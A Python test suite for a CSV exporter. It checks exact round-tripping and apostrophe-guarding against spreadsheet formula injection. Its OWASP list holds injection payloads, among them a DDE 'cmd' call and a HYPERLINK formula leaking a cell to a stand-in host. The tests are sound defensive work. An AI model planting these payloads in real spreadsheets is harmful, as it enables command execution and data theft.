"""Tables for a spreadsheet: read back to the letter by two readers, and never a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchconsole.errors import NotPossibleNow
from benchconsole.exchange.csv import (
    BOM,
    HIDES,
    HISTORY,
    BookedHide,
    guarded,
    hides_table,
    history_table,
    refuse_another,
    table,
    text_in,
)
from benchconsole.letters import fault_in, filed
from tests.hostile_shop import HALVES, HOSTILE

ZONE = timezone(timedelta(hours=2))
NOW = datetime(2026, 3, 4, 9, 0, tzinfo=UTC)
SIGNS = "=+-@\t\r\n＝＋－＠'"
TEXTS = st.text(
    st.one_of(st.sampled_from(SIGNS + ' \u200b\ufeff,;"|%a1'), st.characters()), max_size=20
)


def strictly(text: str) -> list[list[str]]:
    """RFC 4180 section 2 read by its grammar, and nothing that is not in it."""
    rows: list[list[str]] = [[]]
    at = 0
    while at < len(text):
        if text[at] == '"':
            end = at + 1
            while text[end] != '"' or text[end : end + 2] == '""':
                end += 2 if text[end] == '"' else 1
            rows[-1].append(text[at + 1 : end].replace('""', '"'))
            at = end + 1
        else:
            end = at
            while text[end] not in ',\r\n"':
                end += 1
            rows[-1].append(text[at:end])
            at = end
        if text[at] == ",":
            at += 1
            assert at < len(text)
        else:
            assert "\r\n" == text[at : at + 2], "a record ends with CRLF"
            at += 2
            if at < len(text):
                rows.append([])
    return rows


@given(st.lists(TEXTS, min_size=2, max_size=4))
def test_every_text_comes_back_to_the_letter(texts: list[str]) -> None:
    """Through the grammar of the standard and through Python's reader; in files' letters."""
    written = table(["one"] * len(texts), [texts], ZONE)
    for rows in (strictly(written), list(csv.reader(io.StringIO(written, newline="")))):
        assert [filed(text) for text in texts] == [text_in(cell) for cell in rows[1]]


@given(TEXTS)
def test_no_text_begins_as_a_formula_does(text: str) -> None:
    """What a spreadsheet sees first, blanks and unseen letters apart, is none of the signs."""
    cell = guarded(filed(text))
    assert cell[:1] not in set(SIGNS) - {"'"}
    assert cell.lstrip("\u200b\ufeff \t\r\n")[:1] not in set(SIGNS) - {"'"}
    assert filed(text) == text_in(cell)


OWASP = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1)',
    " =1+1",
    "\u200b=1+1",
)
"""The page “CSV Injection” of OWASP: its characters and attacks, from memory; then our own."""


@pytest.mark.parametrize("text", OWASP, ids=ascii)
def test_formulas_get_an_apostrophe(text: str) -> None:
    """And lose it when they are read back."""
    assert f"'{text}" == guarded(text)
    assert text == text_in(guarded(text))


@pytest.mark.parametrize("text", ["'tis", "a=b", "10-12", "''", "brown goat", "", "(=1)", "'"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    """Nobody's name is changed without need."""
    assert text == guarded(text)
    assert text == text_in(text)


def test_doubtful_apostrophes_are_kept_apart() -> None:
    """A name that was typed with the apostrophe is another than one that got it here."""
    assert ["'=1", "''=1", "'''=1"] == [guarded(each) for each in ("=1", "'=1", "''=1")]
    assert "'=1" == text_in("''=1")


def test_numbers_stay_numbers_and_texts_like_them_do_not() -> None:
    """-3.5 degrees is a number for a sum; a hide called “-3.5” is no number."""
    rows = strictly(table(["a", "b", "c", "d"], [(-3.5, "-3.5", 7, None)], ZONE))
    assert ["-3.5", "'-3.5", "7", ""] == rows[1]


def test_times_bear_their_offset() -> None:
    """ISO 8601 on the shop's wall, so that they sort and no reader has to guess the zone."""
    assert "2026-03-04T11:00:00+02:00" == strictly(table(["at"], [(NOW,)], ZONE))[1][0]


def test_hostile_hides_make_one_line_each() -> None:
    """Names with commas, quotes, line ends and halves of characters: a line a hide, all fields."""
    names = (HOSTILE + HALVES, 'a,"b"\r\nc', "=1+1")
    hides = [
        BookedHide(
            id="x", name=name, species=name, count=1, mass_g=-1.5, came=name, route=name,
            stage=name, state="in work", taken_in=NOW, why_out=name,
        )
        for name in names
    ]  # fmt: skip
    written = hides_table(hides, ZONE)
    written.encode()
    rows = strictly(written)
    assert [len(HIDES)] * 4 == [len(row) for row in rows]
    assert [filed(name) for name in names] == [text_in(row[1]) for row in rows[1:]]
    assert "" == fault_in(written.replace("\r\n", "\n"), lines=True)


def test_only_the_same_table_is_written_over() -> None:
    """By its head, with and without the mark of UTF-8; anything else is another's."""
    own = hides_table([], ZONE)
    for body in (own.encode(), f"{BOM}{own}".encode()):
        refuse_another(body, HIDES)
        with pytest.raises(NotPossibleNow, match="no earlier export of the same table"):
            refuse_another(body, HISTORY)
    for body in (b"Dear diary", b"\xff\xfe\x00", b'"', b"id,name\r\n", b"\x00" * 100):
        with pytest.raises(NotPossibleNow):
            refuse_another(body, HIDES)
    refuse_another(history_table([], ZONE).encode(), HISTORY)
